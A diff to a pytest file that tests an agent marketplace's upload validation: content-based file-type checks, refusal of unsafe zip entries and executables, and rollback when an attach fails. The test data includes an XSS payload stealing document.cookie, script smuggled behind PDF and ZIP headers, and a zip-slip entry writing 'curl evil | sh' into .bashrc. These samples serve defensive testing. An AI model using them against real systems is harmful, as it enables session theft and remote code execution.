@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import io
+import re
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -11,8 +14,9 @@ from marketplace import db
 from marketplace.config import settings
 from marketplace.integrations.storage import get_storage
 from marketplace.models import Agent, AgentFile, AgentRevision, AgentStatus, Upload
-from marketplace.services.errors import Forbidden, Invalid, NotFound, Unauthorized
-from marketplace.services.vendor import agents, files
+from marketplace.services import filetypes
+from marketplace.services.errors import Conflict, Forbidden, Invalid, NotFound, Unauthorized
+from marketplace.services.vendor import agents, files, revisions
 from tests.factories import ago, make_agent, make_upload, make_user, make_vendor, upload_url
 
 
@@ -46,7 +50,7 @@ def test_attach_keeps_the_name_the_real_size_and_marks_the_upload():
     # The object moved to a key no upload URL names: a still-valid presigned URL cannot replace it.
     assert row.storage_key.startswith(f"agents/{agent.id}/") and row.storage_key != upload.key
     assert get_storage().head(row.storage_key) == 10 and get_storage().head(upload.key) is None
-    with pytest.raises(Invalid, match="already"):  # the same upload cannot be attached twice
+    with pytest.raises(Conflict, match="already"):  # the same upload cannot be attached twice
         files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
     assert get_storage().head(row.storage_key) == 10 and len(_rows(agent.id)) == 1
 
@@ -100,6 +104,83 @@ def test_wrong_types(data, filename, match):
     vendor = make_vendor()
     agent = make_agent(vendor, status=AgentStatus.PENDING)
     _refused(vendor, agent.id, make_upload(vendor, data, filename=filename), match=match)
+
+
+ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 56
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
+
+
+def _zip_with(name: str, data: bytes) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as z:
+        z.writestr("README.md", "# hi\n")
+        z.writestr(name, data)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(("data", "filename", "match"), [
+    (b"# Notes\n" * 1200 + ELF, "README.md", "README.md is not a valid .md file: it holds binary data"),
+    (SVG, "config.json", "config.json is not a valid .json file"),
+    (b"%PDF-1.7\n<html><script>alert(1)</script></html>\n", "manual.pdf", "manual.pdf is not a valid .pdf file"),
+    (b"PK\x03\x04<html><script>alert(1)</script></html>", "bundle.zip", "bundle.zip is not a valid .zip file"),
+    (_zip_with("../../.bashrc", b"curl evil | sh\n"), "bundle.zip", "bundle.zip contains an entry with an unsafe path"),
+    (_zip_with("bin/tool", ELF), "bundle.zip", "bundle.zip contains an executable file: bin/tool"),
+    (b"# Read me\n", "..", "'..' is not a valid file name"),
+    (b"# Read me\n", ".", "'.' is not a valid file name"),
+])
+def test_the_whole_file_and_its_name_are_checked(data, filename, match):
+    vendor = make_vendor()
+    agent = make_agent(vendor, status=AgentStatus.PENDING)
+    _refused(vendor, agent.id, make_upload(vendor, data, filename=filename), match=re.escape(match))
+
+
+@pytest.mark.parametrize(("data", "filename", "browser_type", "stored_type"), [
+    (b"# Read me\n", "README.md", "text/html", "text/markdown"),
+    (b'{"a": 1}', "config.json", "image/svg+xml", "application/json"),
+    (_zip_with("a.txt", b"a"), "bundle.zip", "text/html", "application/zip"),
+    (b"print(1)\n", "file", "text/html", "text/plain"),  # a PUT without a name: judged by content
+])
+def test_the_stored_type_is_the_one_found_never_the_browsers(data, filename, browser_type, stored_type):
+    vendor = make_vendor()
+    agent = make_agent(vendor, status=AgentStatus.PENDING)
+    upload = make_upload(vendor, data, filename=filename, content_type=browser_type)
+    info = files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
+    assert info.content_type == stored_type
+    assert [row.content_type for row in _rows(agent.id)] == [stored_type]
+
+
+def test_a_conflict_after_the_claim_gives_the_upload_back(monkeypatch):
+    vendor = make_vendor()
+    agent = make_agent(vendor, status=AgentStatus.PENDING)
+    upload = make_upload(vendor, b"# Read me\n", filename="README.md")
+
+    def changed_meanwhile(*args, **kwargs):
+        raise Conflict(revisions.CONCURRENT_CHANGE)
+
+    monkeypatch.setattr(files, "_record", changed_meanwhile)
+    with pytest.raises(Conflict):
+        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
+    row = _upload(upload.key)
+    assert (row.claimed_key, row.attached_at) == (None, None)
+    assert get_storage().get(upload.key) == b"# Read me\n"
+    assert not list((Path(settings.storage_dir) / "agents" / agent.id).glob("*"))
+    monkeypatch.undo()
+    assert files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload)).size_bytes == 10
+
+
+def test_an_unexpected_error_after_the_claim_gives_the_upload_back(monkeypatch):
+    vendor = make_vendor()
+    agent = make_agent(vendor, status=AgentStatus.PENDING)
+    upload = make_upload(vendor, b"# Read me\n", filename="README.md")
+
+    def storage_down(**kwargs):
+        raise RuntimeError("storage unreachable")
+
+    monkeypatch.setattr(filetypes, "check_object", storage_down)
+    with pytest.raises(RuntimeError, match="storage unreachable"):
+        files.attach_file(actor=vendor, agent_id=agent.id, file_url=upload_url(upload))
+    assert _upload(upload.key).claimed_key is None and get_storage().head(upload.key) == 10
+    assert _rows(agent.id) == []
 
 
 def test_object_never_uploaded():
